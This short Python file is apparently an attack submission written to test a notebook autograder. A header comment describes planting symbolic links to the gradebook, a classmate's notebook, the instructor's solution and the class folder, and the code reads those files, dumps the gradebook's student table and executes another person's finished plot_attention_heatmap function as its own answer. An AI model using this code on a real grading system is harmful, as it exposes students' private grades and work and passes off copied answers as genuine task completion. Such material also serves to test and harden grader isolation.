# Attack (reading, through the instructor's own processes): the submitted folder holds symbolic
# links (gradebook.txt to the gradebook, classmate.txt to a classmate's notebook, solution.txt to
# the instructor's solution, class/ to the class's submitted folder), planted in the exchange or in
# the submitted folder. Followed by a copy made as the instructor, they would be plain files here:
# this answer prints what they hold and uses the first finished answer it finds.
import glob
import json
import sqlite3

for _name in ("gradebook.txt", "classmate.txt", "solution.txt"):
    try:
        print(_name, open(_name, errors="replace").read()[:3000])
    except OSError as error:
        print("cannot read", _name, error)
try:
    print("gradebook:", sqlite3.connect("file:gradebook.txt?mode=ro", uri=True).execute("select * from student").fetchall())
except Exception as error:
    print("cannot read the gradebook", error)

for _path in ["classmate.txt", "solution.txt"] + glob.glob("class/*/challenge/*.ipynb"):
    try:
        for _cell in json.load(open(_path))["cells"]:
            _source = "".join(_cell["source"])
            if "def plot_attention_heatmap" in _source and "NotImplementedError" not in _source:
                exec(_source)
    except Exception:
        continue

if "plot_attention_heatmap" not in globals():
    def plot_attention_heatmap(tokens, attention, ax=None):
        return None
